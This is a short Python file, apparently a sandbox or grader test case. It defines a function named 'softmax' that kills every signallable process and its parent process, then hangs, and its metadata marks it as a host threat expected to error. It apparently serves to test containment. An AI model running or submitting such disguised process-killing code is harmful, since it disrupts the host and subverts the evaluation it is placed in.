"""Kill every process that may be signalled, from inside a hidden check.

threat: host
expect: softmax=ERR
"""
# %% softmax
import os
import signal


def softmax(z):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    signal.pause()
